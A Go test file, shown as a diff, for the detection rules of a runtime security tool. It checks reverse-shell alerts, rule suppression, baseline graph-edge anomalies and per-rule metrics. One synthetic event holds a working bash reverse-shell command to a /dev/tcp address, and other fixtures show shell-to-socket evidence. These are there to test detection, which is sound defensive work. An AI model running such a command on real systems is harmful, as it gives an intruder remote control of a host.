@@ -0,0 +1,125 @@
+package rules
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hallucinaut/runtimebase/pkg/baseline"
+	"github.com/hallucinaut/runtimebase/pkg/detect"
+	"github.com/hallucinaut/runtimebase/pkg/metrics"
+	"github.com/hallucinaut/runtimebase/pkg/pipeline"
+)
+
+func TestEvaluateAndDiff(t *testing.T) {
+	at := time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC)
+	exec := func(pid, ppid int, path string, data map[string]interface{}) detect.SystemEvent {
+		data["action"] = "exec"
+		data["ppid"] = ppid
+		return detect.SystemEvent{Type: "process", Timestamp: at, PID: pid, Path: path, Data: data}
+	}
+	events := []detect.SystemEvent{
+		exec(100, 1, "/usr/sbin/nginx", map[string]interface{}{"cmdline": "nginx"}),
+		exec(101, 100, "/bin/sh", map[string]interface{}{"cmdline": "sh -i", "stdin": "socket:[4242]"}),
+		exec(102, 100, "/bin/bash", map[string]interface{}{"cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}),
+	}
+
+	current, err := Evaluate(Set{}, events, nil, time.Minute)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if current.Total != 2 || current.Types["Reverse Shell"] != 1 || current.Types["Reverse Shell via /dev/tcp"] != 1 {
+		t.Fatalf("current = %+v", current)
+	}
+
+	dir := t.TempDir()
+	path := filepath.Join(dir, "rules.yaml")
+	os.WriteFile(path, []byte(`
+packs: [reverse-shell]
+min_severity: CRITICAL
+suppress:
+  - type: "Reverse Shell via*"
+    reason: pentest
+log:
+  level: debug
+`), 0o644)
+	proposed, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	result, err := Evaluate(proposed, events, nil, time.Minute)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if result.Total != 1 || result.Suppressed != 1 {
+		t.Fatalf("proposed = %+v", result)
+	}
+	changes := Diff(current, result)
+	if len(changes) != 1 || changes[0].Type != "Reverse Shell via /dev/tcp" || changes[0].Delta() != -1 {
+		t.Fatalf("changes = %+v", changes)
+	}
+
+	b := baseline.NewLearner().CreateBaseline("web")
+	b.Graph = make(map[string]baseline.Edge)
+	for _, e := range detect.Edges(events[:2]) {
+		b.Graph[e.Key()] = e
+	}
+	result, err = Evaluate(Set{Packs: []string{"reverse-shell"}}, events, b, time.Minute)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if result.Types["New Graph Edge"] != 1 {
+		t.Errorf("baseline alerts = %v, want the nginx->bash spawn", result.Types)
+	}
+
+	for _, bad := range []string{"packs: [nope]", "min_severity: LOUD", "suppress: [{type: x}]"} {
+		os.WriteFile(path, []byte(bad), 0o644)
+		if _, err := Load(path); err == nil {
+			t.Errorf("Load(%q) succeeded", bad)
+		}
+	}
+}
+
+func TestStatsOf(t *testing.T) {
+	reg := metrics.NewRegistry()
+	reg.Add("runtimebase_events_total", 10)
+	count := pipeline.CountRules(reg)
+	r := &pipeline.Record{Anomalies: []baseline.Anomaly{
+		{Type: "New Graph Edge", Evidence: "spawn:nginx->sh", Confidence: 0.8},
+		{Type: "New Graph Edge", Evidence: "connect:sh->203.0.113.7:4444", Confidence: 0.6},
+		{Type: "Reverse Shell", Evidence: "sh fd 0 → socket:[4242]", Confidence: 0.9},
+	}}
+	if _, err := count.Process(context.Background(), r); err != nil {
+		t.Fatal(err)
+	}
+	reg.Add(pipeline.MetricRuleSuppressed, 1, "rule", "New Graph Edge", "category", "connect")
+	reg.Add(pipeline.MetricRuleEvaluations, 4, "rule", "Reverse Shell")
+	reg.Add(pipeline.MetricRuleSeconds, 0.000002, "rule", "Reverse Shell")
+
+	var text strings.Builder
+	reg.WriteTo(&text)
+	samples, err := metrics.Parse(strings.NewReader(text.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	byRule, byCategory := StatsOf(samples)
+	if len(byRule) != 2 || byRule[0].Name != "New Graph Edge" || byRule[0].Fired != 2 || byRule[0].Suppressed != 1 {
+		t.Fatalf("by rule = %+v", byRule)
+	}
+	if c := byRule[0].Confidence; c < 0.69 || c > 0.71 {
+		t.Errorf("confidence = %v, want 0.7", c)
+	}
+	if shell := byRule[1]; shell.Evaluations != 4 || shell.Latency != 500*time.Nanosecond {
+		t.Errorf("reverse shell = %+v", shell)
+	}
+	categories := make(map[string]int)
+	for _, st := range byCategory {
+		categories[st.Name] = st.Fired
+	}
+	if len(categories) != 3 || categories["spawn"] != 1 || categories["connect"] != 1 || categories["-"] != 1 {
+		t.Errorf("by category = %+v", byCategory)
+	}
+}